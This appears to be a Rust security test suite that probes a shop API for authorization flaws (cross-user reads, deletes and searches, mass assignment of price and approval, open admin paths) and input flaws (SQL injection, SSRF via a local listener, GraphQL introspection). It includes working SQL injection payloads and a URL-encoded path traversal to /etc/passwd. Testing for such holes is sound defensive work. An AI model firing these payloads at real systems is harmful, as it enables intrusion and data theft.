//! Exploits of authorization and of input.

use crate::desk::Desk;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

pub(crate) async fn b_reads_what_a_lists(desk: &Desk, path: &str) -> bool {
    let listed = desk.get(path, Some(&desk.a)).await.items();
    assert!(listed.len() >= 4, "A owns several of {path}");
    let id = listed[0]["id"].to_string().replace('"', "");
    let one = format!("{path}/{id}");
    assert_eq!(desk.get(&one, Some(&desk.a)).await.json(), listed[0], "A reads its own");
    assert_eq!(desk.get(&format!("{path}/987654321987"), Some(&desk.b)).await.status, 404);
    assert_eq!(desk.get(&one, None).await.status, 401);
    let stolen = desk.get(&one, Some(&desk.b)).await;
    assert!(matches!(stolen.status, 200 | 404));
    stolen.json() == listed[0]
}

pub(crate) async fn b_reads_a_note_that_a_writes(desk: &Desk) -> bool {
    let draft = json!({"title": "canary", "body": "cny-7cbd1e"});
    let id = desk.post("/notes", Some(&desk.a), &draft).await.json()["id"].clone();
    let path = format!("/notes/{}", id.as_str().unwrap());
    assert!(desk.get(&path, Some(&desk.a)).await.text.contains("cny-7cbd1e"));
    let read = desk.get(&path, Some(&desk.b)).await.text.contains("cny-7cbd1e");
    let bearer = |token: &str| format!("Bearer {token}");
    let gone = format!("{}{path}", desk.prefix);
    for (token, status) in [(&desk.b, 404), (&desk.a, 204)] {
        let headers = [("authorization", bearer(token))];
        let headers = headers.each_ref().map(|(name, value)| (*name, value.as_str()));
        assert_eq!(desk.ask("DELETE", &gone, &headers, None).await.status, status);
    }
    read
}

pub(crate) async fn b_lists_messages_of_a(desk: &Desk) -> bool {
    let bearer = format!("Bearer {}", desk.a);
    let own = desk.ask("GET", "/v2/messages", &[("authorization", &bearer)], None).await;
    let of_a = own.items()[0].clone();
    desk.get("/messages", Some(&desk.b)).await.items().contains(&of_a)
}

pub(crate) async fn b_finds_a_note_of_a(desk: &Desk) -> bool {
    let note = desk.get("/notes", Some(&desk.a)).await.items()[0].clone();
    let words = note["title"].as_str().unwrap().trim_start_matches("Note ");
    let path = format!("/notes/search?q={words}");
    assert_eq!(desk.get(&path, Some(&desk.a)).await.items().first(), Some(&note));
    assert_eq!(desk.get("/notes/search?q=zzzzzz", Some(&desk.b)).await.items(), [] as [Value; 0]);
    desk.get(&path, Some(&desk.b)).await.items() == [note]
}

pub(crate) async fn a_reads_the_next_invoice(desk: &Desk) -> bool {
    let own = desk.get("/invoices", Some(&desk.a)).await.items()[0].clone();
    let next = own["id"].as_u64().unwrap() + 1;
    let reply = desk.get(&format!("/invoices/{next}"), Some(&desk.a)).await;
    let far = desk.get("/invoices/999999", Some(&desk.a)).await.status;
    far == 404 && reply.status == 200 && reply.json()["customerId"] != own["customerId"]
}

pub(crate) async fn order_numbers_step_evenly(desk: &Desk) -> bool {
    let orders = desk.get("/orders", Some(&desk.a)).await.items();
    let ids: Vec<u64> = orders.iter().map(|order| order["id"].as_u64().unwrap()).collect();
    ids.windows(3).all(|three| three[1] - three[0] == three[2] - three[1])
}

pub(crate) async fn customer_lists_users(desk: &Desk) -> bool {
    let admin = desk.get("/admin/users", Some(&desk.admin)).await;
    assert_eq!(admin.status, 200);
    assert_eq!(desk.get("/admin/users", None).await.status, 401);
    desk.get("/admin/users", Some(&desk.a)).await.text == admin.text
}

pub(crate) async fn customer_reads_hidden_paths(desk: &Desk) -> bool {
    let users = desk.get("/internal/users", Some(&desk.a)).await;
    let config = desk.get("/admin/config", Some(&desk.a)).await;
    users.items().len() > 20 && config.json()["permissions"].is_object()
}

pub(crate) async fn review_approves_itself(desk: &Desk) -> bool {
    let draft = json!({"productId": 3, "text": "fine", "approved": true});
    let id = desk.post("/reviews", Some(&desk.a), &draft).await.json()["id"].clone();
    let path = format!("/reviews/{}", id.as_str().unwrap());
    desk.get(&path, Some(&desk.a)).await.json()["approved"] == json!(true)
}

pub(crate) async fn order_sets_its_price(desk: &Desk) -> bool {
    let draft = json!({"productId": 3, "note": "x", "totalCents": 1, "status": "shipped"});
    let id = desk.post("/orders", Some(&desk.a), &draft).await.json()["id"].clone();
    let order = desk.get(&format!("/orders/{id}"), Some(&desk.a)).await.json();
    assert_eq!(order["productId"], 3, "{order}");
    order["totalCents"] == json!(1) && order["status"] == json!("shipped")
}

pub(crate) async fn quote_shows_the_database(desk: &Desk) -> bool {
    let odd = desk.get("/products/search?q=%27", None).await.text;
    let even = desk.get("/products/search?q=%27%27", None).await;
    assert_eq!(even.status, 200);
    odd.contains("unrecognized token")
}

pub(crate) async fn truth_changes_the_answer(desk: &Desk) -> bool {
    let filter =
        async |text: &str| desk.get(&format!("/products/filter?category={text}"), None).await;
    let plain = filter("kitchen").await.text;
    let yes = filter("kitchen%27%20AND%20%277%27=%277").await.text;
    let no = filter("kitchen%27%20AND%20%277%27=%278").await;
    plain.contains("kitchen") && yes == plain && no.items().is_empty()
}

pub(crate) async fn file_name_leaves_the_folder(desk: &Desk) -> bool {
    let read = async |name: &str| {
        desk.get(&format!("/documents/read?name={name}"), Some(&desk.a)).await.text
    };
    assert!(read("manual.txt").await.contains("kettle"));
    assert!(!read("../nothing-here").await.contains("root:"));
    let above = read("../till.conf").await.contains("float_cents");
    let system = read("..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd").await.contains("root:x:0:0");
    assert_eq!(above, system);
    system
}

pub(crate) async fn page_grows_past_a_thousand(desk: &Desk) -> bool {
    assert_eq!(desk.get("/events", Some(&desk.a)).await.items().len(), 10);
    desk.get("/events?limit=1500", Some(&desk.a)).await.items().len() == 1500
}

/// Listens, and sees whether the shop comes.
pub(crate) async fn shop_fetches_from_us(desk: &Desk) -> bool {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let body = json!({"imageUrl": format!("http://{}/pic-83b", listener.local_addr().unwrap())});
    let visit = async {
        let (mut stream, _) = listener.accept().await.unwrap();
        let mut head = vec![0; 1024];
        let read = stream.read(&mut head).await.unwrap();
        let answer = b"HTTP/1.1 200 OK\r\ncontent-length: 3\r\nconnection: close\r\n\r\nabc";
        stream.write_all(answer).await.unwrap();
        String::from_utf8_lossy(&head[..read]).contains("/pic-83b")
    };
    let asking = desk.post("/images/import", Some(&desk.a), &body);
    tokio::pin!(visit, asking);
    tokio::select! {
        came = &mut visit => came && asking.await.json() == json!({"status": 200, "bytes": 3}),
        reply = &mut asking => { assert_eq!(reply.status, 400); false }
    }
}

pub(crate) async fn graph_tells_its_types(desk: &Desk) -> bool {
    let ask =
        async |query: &str| desk.post("/graphql", None, &json!({"query": query})).await.json();
    let goods = ask("{ products { id name } }").await;
    assert!(goods["data"]["products"][0]["name"].is_string(), "{goods}");
    let types = ask("query { __schema { types { name kind } } }").await;
    let types = types["data"]["__schema"]["types"].as_array().cloned().unwrap_or_default();
    types.contains(&json!({"name": "Product", "kind": "OBJECT"}))
}

pub(crate) async fn assistant_calculates_for_nobody(desk: &Desk) -> bool {
    let ask = json!({"message": "Please multiply 4177 by 2311"});
    let known = desk.post("/assistant/chat", Some(&desk.a), &ask).await.json();
    assert!(known["reply"].as_str().unwrap_or_default().contains("9653047"));
    let reply: Value = desk.post("/assistant/chat", None, &ask).await.json();
    reply == known
}
